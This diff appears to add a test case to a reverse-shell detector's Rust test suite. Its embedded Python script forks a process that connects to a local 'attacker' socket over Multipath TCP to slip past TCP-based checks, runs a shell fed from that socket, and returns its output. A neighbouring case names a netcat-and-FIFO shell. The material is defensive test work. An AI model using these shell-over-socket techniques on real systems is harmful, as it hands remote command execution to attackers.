@@ -159,6 +159,35 @@ PYTHON
         reports: &["picket_shell_feeder_connects"],
     },
     Case {
+        name: "what passes a shell on connects by several paths at once (MPTCP), which is no TCP to the kernel",
+        prepare: "loopback",
+        script: r#"
+python3 - <<'PYTHON'
+import os, socket, subprocess
+attacker = socket.create_server(("127.0.0.1", 0))
+victim = os.fork()
+if victim == 0:
+    address = attacker.getsockname()
+    attacker.close()
+    try:
+        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
+    except OSError:
+        connection = socket.socket()  # A kernel without it.
+    connection.connect(address)
+    open("connected", "w").close()  # A connection is told before what its thread does next.
+    shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    answer, _ = shell.communicate(connection.recv(100))
+    connection.sendall(answer)
+    os._exit(0)
+connection, _ = attacker.accept()
+connection.sendall(b"echo $((6 * 7))\n")
+assert connection.recv(100) == b"42\n"
+os.waitpid(victim, 0)
+PYTHON
+"#,
+        reports: &["picket_shell_fed_by_client"],
+    },
+    Case {
         name: "a script file ties a shell to netcat by a FIFO",
         prepare: r#"
 loopback
